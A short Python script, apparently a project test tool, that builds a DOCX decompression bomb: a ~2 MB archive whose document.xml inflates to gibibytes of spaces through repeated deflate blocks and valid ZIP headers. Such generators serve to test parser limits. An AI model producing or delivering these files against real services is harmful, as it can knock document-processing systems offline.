#!/usr/bin/env python3
"""Writes a DOCX whose word/document.xml inflates to GIB gibibytes of spaces (default 2) from a ~2 MB file: one
fully-flushed deflate block of 1 MiB repeated, with a valid CRC. Usage: python3 tools/make_zip_bomb.py OUT [GIB]"""
import struct, sys, zlib
def bomb(path, gib=2):
    chunk = b" " * (1 << 20)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    tail = co.flush(zlib.Z_FINISH)
    n = int(gib * 1024)
    crc = 0
    for _ in range(n): crc = zlib.crc32(chunk, crc)
    size = n * len(chunk)
    comp = len(block) * n + len(tail)
    name = b"word/document.xml"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, comp, size & 0xFFFFFFFF, len(name), 0) + name
    with open(path, "wb") as f:
        f.write(local)
        for _ in range(n): f.write(block)
        f.write(tail)
        cd_offset = f.tell()
        central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, comp, size & 0xFFFFFFFF, len(name), 0, 0, 0, 0, 0, 0) + name
        f.write(central)
        f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), cd_offset, 0))
bomb(sys.argv[1], float(sys.argv[2]) if len(sys.argv) > 2 else 2)
